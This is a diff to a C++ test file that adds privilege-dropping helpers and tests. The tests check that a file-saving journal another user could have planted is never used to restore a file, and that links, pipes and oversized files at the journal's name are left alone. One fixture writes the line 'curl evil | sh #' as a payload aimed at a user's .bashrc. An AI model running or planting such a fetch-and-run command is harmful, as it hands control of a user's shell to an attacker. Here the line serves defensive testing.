@@ -67,16 +67,28 @@ std::optional<int> WaitForChildProcess(pid_t child) {
     return status;
 }
 
+// Runs `work` as the user `user`, whose runtime folder is `runtime`, as a program started for
+// him runs; -1 when the process failed.
+int RunAsUser(uid_t user, const fs::path& runtime, const std::function<int()>& work) {
+    fs::create_directories(runtime);
+    if (::chown(runtime.c_str(), user, user) != 0) {
+        return -1;
+    }
+    const std::optional<int> status = WaitForChildProcess(StartChildProcess([&] {
+        if (::setgroups(0, nullptr) != 0 || ::setgid(user) != 0 || ::setuid(user) != 0) {
+            return 2;
+        }
+        ::setenv("XDG_RUNTIME_DIR", runtime.c_str(), 1);
+        return work();
+    }));
+    return status ? ExitStatus(*status) : -1;
+}
+
 // Saves as an unprivileged user, as the program runs for one; 1 when the save failed, -1 when
 // the saving process failed.
 int SaveAsNobody(const fs::path& path, const std::string& content) {
-    const std::optional<int> status = WaitForChildProcess(StartChildProcess([&] {
-        if (::setgroups(0, nullptr) != 0 || ::setgid(kNobody) != 0 || ::setuid(kNobody) != 0) {
-            return 2;
-        }
-        return ReplaceFileContent(path.string(), content) ? 0 : 1;
-    }));
-    return status ? ExitStatus(*status) : -1;
+    return RunAsUser(kNobody, path.parent_path().parent_path() / "nobody-runtime",
+                     [&] { return ReplaceFileContent(path.string(), content) ? 0 : 1; });
 }
 
 // A fresh folder of the test's own.
@@ -262,6 +274,7 @@ TEST_F(FilesTest, AnInPlaceSaveThatFailsKeepsTheOldBytes) {
         {1024, "shorter", true},
         {RLIM_INFINITY, std::string(1073, 'n'), true},
     };
+    const JournalFolderOfTheTest journals(folder / "run");
     std::signal(SIGXFSZ, SIG_IGN);
     rlimit original{};
     getrlimit(RLIMIT_FSIZE, &original);
@@ -282,7 +295,7 @@ TEST_F(FilesTest, AnInPlaceSaveThatFailsKeepsTheOldBytes) {
 // ulimit -f does it: afterwards, once the next start has looked at the journal, the file holds
 // its old or its new bytes, and no journal is left.
 TEST_F(FilesTest, AnInPlaceSaveKilledByTheFileSizeLimitLeavesTheOldOrTheNewBytes) {
-    const TemporaryFolderOfTheTest temporary(folder / "tmp");
+    const JournalFolderOfTheTest temporary(folder / "tmp");
     const fs::path file = folder / "killed.lumx";
     const struct {
         std::string old, content;
@@ -321,7 +334,7 @@ TEST_F(FilesTest, AnInPlaceSaveKilledByTheFileSizeLimitLeavesTheOldOrTheNewBytes
 // A file changed by someone else since keeps its bytes; a save that is still writing keeps its
 // journal.
 TEST_F(FilesTest, AtTheNextStartATornFileGetsItsOldBytesBack) {
-    const TemporaryFolderOfTheTest temporary(folder / "tmp");
+    const JournalFolderOfTheTest temporary(folder / "tmp");
     const fs::path file = folder / "torn.lumx";
     const std::string old = "the old calculation, 44 bytes of it, no more";
     const std::string content = std::string(30, 'n') + "\n";
@@ -354,13 +367,16 @@ TEST_F(FilesTest, AtTheNextStartATornFileGetsItsOldBytesBack) {
         EXPECT_EQ(JournalsLeft(), c.journals) << c.what;
     }
 
-    // A journal never finished: the save stopped before it touched the file.
+    // A save takes the journal's name only once the journal is whole: one cut short is none of
+    // its journals, and is left alone.
     WriteWholeFile(file, old);
-    const SystemPath journal = LeaveTornSave(file, content, 0);
+    const SystemPath journal = LeaveTornSave(file, content, 12);
     fs::resize_file(journal, fs::file_size(journal) - 1);
     EXPECT_TRUE(RestoreInterruptedSaves().empty());
-    EXPECT_EQ(ReadWholeFile(file), old);
-    EXPECT_EQ(JournalsLeft(), 0u);
+    EXPECT_EQ(ReadWholeFile(file), content.substr(0, 12) + old.substr(12));
+    EXPECT_EQ(JournalsLeft(), 1u);
+    fs::remove(journal);
+    WriteWholeFile(file, old);
 
 #ifndef __EMSCRIPTEN__ // the browser runs one program and has no locks to hold a journal
     // A save that still writes holds its journal.
@@ -373,6 +389,123 @@ TEST_F(FilesTest, AtTheNextStartATornFileGetsItsOldBytesBack) {
     EXPECT_EQ(RestoreInterruptedSaves().size(), 1u);
     EXPECT_EQ(ReadWholeFile(file), old);
 #endif
+}
+
+// A journal that another user can have written is never taken up: not in the shared temporary
+// folder where journals once lay, not in a journal folder that others may change, and not one
+// that is not the user's own, private file. The file it names keeps its bytes.
+TEST_F(FilesTest, AJournalThatAnotherUserCanHaveWrittenIsNeverTakenUp) {
+    if (::geteuid() != 0) {
+        GTEST_SKIP() << "needs root to act as two users";
+    }
+    constexpr uid_t kUser = kNobody;
+    constexpr uid_t kOther = kNobody - 1;
+    const fs::path shared = folder / "tmp"; // as /tmp: everybody may put files there
+    const fs::path runtime = folder / "run";
+    const fs::path journals = runtime / "lumetrix";
+    const fs::path home = folder / "home";
+    const fs::path file = home / ".bashrc";
+    fs::create_directories(shared);
+    fs::permissions(shared, fs::perms::all | fs::perms::sticky_bit);
+    fs::create_directories(home);
+    ASSERT_EQ(::chown(home.c_str(), kUser, kUser), 0);
+    const std::string own = "# the user's own settings\n";
+    WriteWholeFile(file, own);
+    ASSERT_EQ(::chown(file.c_str(), kUser, kUser), 0);
+    const std::string journalName = fs::path(JournalPathFor(file.string())).filename().string();
+    const fs::path payload = folder / "payload";
+    WriteWholeFile(payload, "curl evil | sh #\n" + std::string(own.size(), '#'));
+    const struct {
+        const char* what;
+        fs::path journal;
+        uid_t owner;
+        fs::perms mode;
+        std::function<void()> setUp;
+    } cases[] = {
+        {"in the shared folder, named after the file", shared / journalName, kOther,
+         fs::perms::owner_read | fs::perms::owner_write, [] {}},
+        {"in the shared folder, under any name", shared / "~lmx-0000000000000000.journal", kOther,
+         fs::perms::owner_read | fs::perms::owner_write, [] {}},
+        {"in a journal folder that others may write", journals / journalName, kOther,
+         fs::perms::owner_read | fs::perms::owner_write,
+         [&] { fs::permissions(journals, fs::perms::all); }},
+        {"in a journal folder of another user", journals / journalName, kOther,
+         fs::perms::owner_read | fs::perms::owner_write,
+         [&] { ASSERT_EQ(::chown(journals.c_str(), kOther, kOther), 0); }},
+        {"another user's file in the user's journal folder", journals / journalName, kOther,
+         fs::perms::owner_read | fs::perms::owner_write, [] {}},
+        {"the user's file that others may read", journals / journalName, kUser,
+         fs::perms::owner_read | fs::perms::owner_write | fs::perms::others_read, [] {}},
+    };
+    for (const auto& c : cases) {
+        fs::remove_all(runtime);
+        fs::create_directories(journals);
+        fs::permissions(journals, fs::perms::owner_all);
+        ASSERT_EQ(::chown(journals.c_str(), kUser, kUser), 0);
+        c.setUp();
+        // A torn file by the journal: its old bytes would be the payload.
+        {
+            SystemFile old(payload.string(), SystemFile::Access::Read);
+            SystemFile journal(c.journal.string(), SystemFile::Access::CreateWrite);
+            ASSERT_TRUE(
+                WriteJournal(journal, file.string(), old, old.Size().value_or(0), own + "x"))
+                << c.what;
+        }
+        fs::permissions(c.journal, c.mode);
+        ASSERT_EQ(::chown(c.journal.c_str(), c.owner, c.owner), 0);
+        EXPECT_EQ(RunAsUser(kUser, runtime,
+                            [&] {
+                                ::setenv("TMPDIR", shared.c_str(), 1);
+                                const bool restored = !RestoreInterruptedSaves().empty() ||
+                                                      RestoreInterruptedSave(file.string());
+                                return restored ? 1 : 0;
+                            }),
+                  0)
+            << c.what;
+        EXPECT_EQ(ReadWholeFile(file), own) << c.what;
+        EXPECT_TRUE(fs::exists(c.journal)) << c.what << ": left alone";
+        fs::remove(c.journal);
+    }
+}
+
+// Whatever lies at a file's journal name, a link, a pipe, a sparse file of 2 GiB or one that
+// cannot be read, is left alone at the start and before a load, without waiting or reading it
+// through, and the save takes the name over.
+TEST_F(FilesTest, WhatLiesAtAJournalsNameNeitherHoldsUpTheStartNorBlocksTheSave) {
+    const JournalFolderOfTheTest journals(folder / "run");
+    const fs::path file = folder / "plan.lumx";
+    const fs::path elsewhere = folder / "elsewhere";
+    const struct {
+        const char* what;
+        std::function<void(const fs::path&)> put;
+    } cases[] = {
+        {"a link", [&](const fs::path& at) { fs::create_symlink(elsewhere, at); }},
+#ifndef __EMSCRIPTEN__ // the browser's files have no named pipes
+        {"a pipe", [](const fs::path& at) { ASSERT_EQ(::mkfifo(at.c_str(), 0600), 0); }},
+#endif
+        {"a sparse file of 2 GiB",
+         [](const fs::path& at) {
+             WriteWholeFile(at, "");
+             fs::resize_file(at, 2ull << 30);
+         }},
+        {"a file nobody may read",
+         [](const fs::path& at) {
+             WriteWholeFile(at, "LumetrixJournal1");
+             fs::permissions(at, fs::perms::none);
+         }},
+    };
+    for (const auto& c : cases) {
+        WriteWholeFile(file, "old");
+        WriteWholeFile(elsewhere, "elsewhere");
+        const fs::path journal = JournalPathFor(FindSaveTarget(file.string()).path);
+        c.put(journal);
+        EXPECT_TRUE(RestoreInterruptedSaves().empty()) << c.what;
+        EXPECT_FALSE(RestoreInterruptedSave(file.string())) << c.what;
+        EXPECT_TRUE(OverwriteFile(file.string(), "new")) << c.what;
+        EXPECT_EQ(ReadWholeFile(file), "new") << c.what;
+        EXPECT_EQ(ReadWholeFile(elsewhere), "elsewhere") << c.what;
+        EXPECT_FALSE(fs::exists(fs::symlink_status(journal))) << c.what;
+    }
 }
 
 // The judgement of a journaled file by its bytes, fed in pieces as the files are read.
